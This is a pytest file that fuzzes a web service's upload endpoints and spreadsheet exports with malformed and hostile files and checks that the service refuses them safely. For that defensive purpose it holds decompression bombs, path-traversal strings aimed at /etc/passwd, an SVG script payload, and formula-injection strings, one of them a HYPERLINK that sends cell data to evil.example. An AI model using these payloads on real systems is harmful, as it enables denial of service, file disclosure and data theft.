"""Hostile uploads: stamps, spreadsheets and PDFs that are damaged, huge, bombs, of the wrong type or not
even text. Each gets a 4xx with a message (a PDF upload is a question, so a damaged PDF may be answered
200 "not ours"; a sheet that still opens, 200 with every row refused), never a 5xx, and nothing is
stored. Exports never carry a live formula."""
import base64
import io
import json
import random
import struct
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor

import requests
from openpyxl import load_workbook

from chalicelib import files

from ..integration.conftest import xlsx
from ..integration.signoff import fresh_plan, generate, sign
from ..photofiles import photo, zip_of
from .conftest import scale


def _png(width: int, height: int, idat: bytes) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


GOOD_PNG = _png(140, 50, zlib.compress(b"".join(b"\0" + b"\0\0\0\xff" * 140 for _ in range(50))))
PNG_BOMB = _png(60000, 60000, zlib.compress(b"\0" * 2_000_000))          # 14 GB of pixels when decoded
GOOD_XLSX = xlsx(["考生编号", "考试计划代码"], [["1" * 26, "p0907"]])
GOOD_PHOTO_ZIP = zip_of([("51332220211630978726009999.jpg", photo())])       # no such candidate: never stored


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * 60 * 1024 * 1024)   # 60 MB from ~60 KB
    return out.getvalue()


ZIP_BOMB = _zip_bomb()


def mutations(good: bytes, rng: random.Random) -> list[tuple[str, bytes | str]]:
    """Damaged forms of a good file: (what, bytes), or (what, text) when the base64 itself is broken."""
    cut = rng.randrange(1, len(good))
    flipped = bytearray(good)
    for _ in range(rng.randint(1, 20)):
        flipped[rng.randrange(len(flipped))] = rng.randrange(256)
    return [
        ("truncated", good[:cut]),
        ("bytes flipped", bytes(flipped)),
        ("random bytes", rng.randbytes(rng.randint(0, 5000))),
        ("wrong type", rng.choice([f for f in (GOOD_PNG, GOOD_XLSX, b"%PDF-1.7\n" + rng.randbytes(200),
                                               b"GIF89a" + b"\0" * 50, b"\xff\xd8\xff\xe0" + rng.randbytes(100),
                                               b"<svg onload=alert(1)>") if f[:4] != good[:4]])),
        ("bomb", rng.choice([PNG_BOMB, ZIP_BOMB])),
        ("not base64", rng.choice(["@@@@", "=" * 8, "../../etc/passwd", "\u0000\ud7ff", "ab c", "YQ"])),
        ("formula", rng.choice([b"=cmd|' /C calc'!A0", b"@SUM(1+1)*cmd", b"+HYPERLINK(\"http://x\")"])),
        ("invalid utf-8", b"\xff\xfe\xfd" + rng.randbytes(10)),
    ]


def _body(field: str, payload, extra: dict) -> dict:
    text = payload if isinstance(payload, str) else base64.b64encode(payload).decode()
    return {field: text, **extra}


TARGETS = [  # (who, path, field, good file, other fields)
    ("teo", "/orgs/zwl/stamp", "image_base64", GOOD_PNG, {"agreed": True}),
    ("admin", "/admin/import/results", "file_base64", GOOD_XLSX, {}),
    ("admin", "/admin/import/photos", "file_base64", GOOD_PHOTO_ZIP, {}),
    (None, "/verify/pdf", "pdf_base64", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", {}),
]
ODD_REQUESTS = [  # raw bodies and path-like names
    ("teo", "PUT", "/orgs/zwl/stamp", b'{"image_base64": "\xff\xfe", "agreed": true}'),
    ("teo", "PUT", "/orgs/..%2Fzwl/stamp", b'{"image_base64": "AAAA", "agreed": true}'),
    ("admin", "POST", "/admin/import/..%2F..%2Fetc%2Fpasswd", b'{"file_base64": "AAAA"}'),
    ("admin", "POST", "/admin/import/results", b'{"file_base64": "AAAA", "mode": "../x"}'),
    ("admin", "PUT", "/candidates/..%2F..%2Fetc%2Fpasswd/photo", b'{"image_base64": "AAAA"}'),
    ("teo", "PUT", "/orgs/zwl/stamp", b"x" * (2 * 1024 * 1024 + 1)),                  # over the body limit
    (None, "POST", "/verify/pdf", b'{"pdf_base64": "' + b"A" * (6 * 1024 * 1024) + b'"}'),
]


def stored(api) -> tuple:
    """What an upload could have changed: every S3 key outside the worker's, stamps, master data."""
    keys = []
    for page in files._client().get_paginator("list_objects_v2").paginate(Bucket=files.config.bucket_name()):
        keys += [o["Key"] for o in page.get("Contents", []) if not o["Key"].startswith(("certificates/", "downloads/"))]
    return (sorted(keys), api.get("/orgs/zwl", as_="admin").json().get("stamp_key"),
            len(api.get("/plans", as_="admin").json()["items"]))


def test_malformed_uploads_are_refused_and_nothing_is_stored(api, figures):
    rng = random.Random(7)
    rounds = scale(45, 200)
    before = stored(api)

    def send(who, method, path, data):
        headers = {"Content-Type": "application/json"}
        if who:
            headers["Authorization"] = "Bearer " + api.token(who)
        return requests.request(method, api.base + path, data=data, headers=headers, timeout=120)

    requests_ = [(who, "PUT" if "stamp" in path else "POST", path,
                  json.dumps(_body(field, payload, extra)).encode() if what != "invalid utf-8" else
                  b'{"' + field.encode() + b'": "' + payload + b'"}')
                 for _ in range(rounds) for who, path, field, good, extra in TARGETS
                 for what, payload in mutations(good, rng)] + ODD_REQUESTS
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda r: send(*r), requests_))
    wrong = []
    for (_who, method, path, data), r in zip(requests_, answers, strict=True):
        # Two 200s are refusals too: a PDF that is "not ours", a damaged sheet that still opens but whose
        # rows are each reported and none imported.
        accepted = r.status_code == 200 and (
            (path == "/verify/pdf" and r.json()["result"] in ("unknown", "altered"))
            or (path.startswith("/admin/import/") and r.json()["imported"] == 0 and r.json()["errors"]))
        if not accepted and not (400 <= r.status_code < 500 and r.json()["error"]["message"]):
            wrong.append(f"{method} {path} {data[:60]!r}: {r.status_code} {r.text[:200]}")
    figures["hostile inputs tried"] += len(requests_)
    figures["hostile inputs answered 5xx"] += sum(r.status_code >= 500 for r in answers)
    assert len(requests_) >= scale(1000, 4000)
    assert wrong == [], "\n".join(wrong)
    assert stored(api) == before


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1", "=1+1"]


def test_exports_never_carry_a_live_formula(api, figures):
    """Refusal reasons are free text from a person: they come back in the export as text, never as a formula."""
    plan = fresh_plan(api, per_site=len(FORMULAS), sites=("bjtu",))
    ids = generate(api, plan)
    for rid, reason in zip(ids, FORMULAS, strict=True):
        sign(api, "teo", "teo_signer", ids=[rid], decision="refuse", reason=reason)
    r = api.post("/exports", as_="teo", json={"filter": {"plan_id": plan["plan_id"]}})
    assert r.status_code == 200 and r.json()["count"] == len(FORMULAS), r.text
    book = load_workbook(io.BytesIO(requests.get(r.json()["url"], timeout=10).content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.lstrip("\t\r").startswith(("=", "+", "-", "@"))]
    reasons = {t.lstrip("'") for t in texts if t.startswith("'")}
    assert {f.lstrip("\t\r") for f in FORMULAS} <= {t.lstrip("\t\r") for t in reasons}
    figures["hostile inputs tried"] += len(FORMULAS)
